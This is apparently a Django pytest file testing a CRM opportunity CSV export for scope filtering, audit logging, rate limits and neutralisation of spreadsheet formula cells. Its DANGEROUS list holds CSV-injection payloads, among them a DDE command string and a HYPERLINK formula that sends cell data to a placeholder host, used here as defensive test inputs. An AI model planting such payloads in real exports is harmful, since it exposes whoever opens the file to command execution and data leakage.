"""CSV export: the user's filter and scope exactly, formula cells neutralised, audited and limited (S5, S23, S24)."""

import csv
import io

import pytest
from django.urls import reverse

from funnel.export import neutralise
from reps.models import AuditAction, AuditEvent
from tests.factories import OpportunityFactory

pytestmark = pytest.mark.django_db
DANGEROUS = ['=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def export(client, **params) -> list[list[str]]:
    response = client.get(reverse("funnel:opportunity_export"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_export_holds_exactly_the_visible_filtered_rows(client_for, cast, pipeline):
    OpportunityFactory(owner=cast["rep"], name="mine A")
    OpportunityFactory(owner=cast["rep"], name="mine B")
    OpportunityFactory(owner=cast["teammate"], name="teammate's")
    OpportunityFactory(owner=cast["other_rep"], name="other team's")
    rows = export(client_for(cast["rep"]), team=cast["other_rep"].team.pk, owner=cast["teammate"].pk)
    assert sorted(row[1] for row in rows[1:]) == ["mine A", "mine B"]
    rows = export(client_for(cast["manager"]), q="mine")
    assert sorted(row[1] for row in rows[1:]) == ["mine A", "mine B"]


def test_export_neutralises_formula_cells(client_for, rep, pipeline):
    for name in DANGEROUS:
        OpportunityFactory(owner=rep, name=name, account__name=name)
    rows = export(client_for(rep))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0")]
    assert '\'=HYPERLINK("http://x/?"&A1)' in cells


def test_neutralise_leaves_ordinary_text_alone():
    assert (neutralise("华信钢铁"), neutralise(None), neutralise(1200)) == ("华信钢铁", "", "1200")
    assert neutralise("-5") == "'-5"


def test_export_is_audited_with_its_row_count(client_for, rep, pipeline):
    OpportunityFactory.create_batch(3, owner=rep)
    export(client_for(rep))
    event = AuditEvent.objects.get(action=AuditAction.EXPORTED)
    assert (event.actor, event.detail["rows"]) == (rep, 3)


def test_export_is_limited_per_hour(client_for, rep, pipeline, settings):
    settings.EXPORTS_PER_HOUR = 2
    client = client_for(rep)
    export(client)
    export(client)
    response = client.get(reverse("funnel:opportunity_export"))
    assert response.status_code == 302
    assert AuditEvent.objects.filter(action=AuditAction.EXPORTED).count() == 2


def test_export_over_the_row_limit_is_refused_not_cut(client_for, rep, pipeline, settings):
    settings.EXPORT_MAX_ROWS = 2
    OpportunityFactory.create_batch(3, owner=rep)
    response = client_for(rep).get(reverse("funnel:opportunity_export"), follow=True)
    assert "3 rows match" in response.content.decode()
